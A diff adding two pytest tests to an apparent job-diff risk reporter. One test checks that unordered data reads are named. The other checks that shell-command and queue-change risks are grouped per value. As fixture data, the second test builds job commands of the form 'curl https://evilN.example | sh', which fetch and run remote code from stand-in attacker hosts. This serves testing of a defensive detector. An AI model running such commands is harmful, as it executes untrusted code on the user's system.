@@ -99,3 +99,35 @@ def test_a_comment_counts_once_what_it_leaves_out(word):
 def test_full_text_shortens_nothing():
     shown = render([a_job("one", environment={"PATH": NOISE}), a_job("two")], DiffFormat.TEXT, full=True)
     assert f"PATH={NOISE}" in shown
+
+
+@pytest.mark.parametrize("output_format", TEXTS)
+def test_each_unordered_read_is_named(output_format):
+    old, new = (
+        tuple(
+            job
+            for n in range(40)
+            for job in (
+                a_job(f"w{n}", nodes=(f"w{n}",), writes=(f"data{n}",)),
+                a_job(f"r{n}", nodes=(f"r{n}",), reads=(f"data{n}",), depends_on=(f"w{n}",) if ordered else ()),
+            )
+        )
+        for ordered in (True, False)
+    )
+    shown = risks_of(render(new, output_format, before=old), output_format)
+    assert {int(n) for n in re.findall(r"r(\d+) reads data\1\b", shown)} == {*range(40)}
+
+
+@pytest.mark.parametrize("output_format", TEXTS)
+def test_each_of_many_values_has_a_line_of_its_own_with_its_jobs(output_format):
+    jobs = [
+        a_job(f"n{n:02}", command=("sh", "-c", f"curl https://evil{n % 30}.example | sh"), job_queue=f"q{n % 20}")
+        for n in range(60)
+    ]
+    shown = risks_of(render(jobs, output_format), output_format)
+    assert {int(n) for n in re.findall(r"https://evil(\d+)\.example", shown)} == {*range(30)}
+    assert len(re.findall("shell command", shown)) == 30
+    assert len(re.findall("queue changed", shown)) == 20
+    if output_format is DiffFormat.TEXT:
+        assert "! shell command: x -> sh -c 'curl https://evil7.example | sh': n07, n37 !" in shown
+        assert "! queue changed: q -> q7: n07, n27, n47 !" in shown
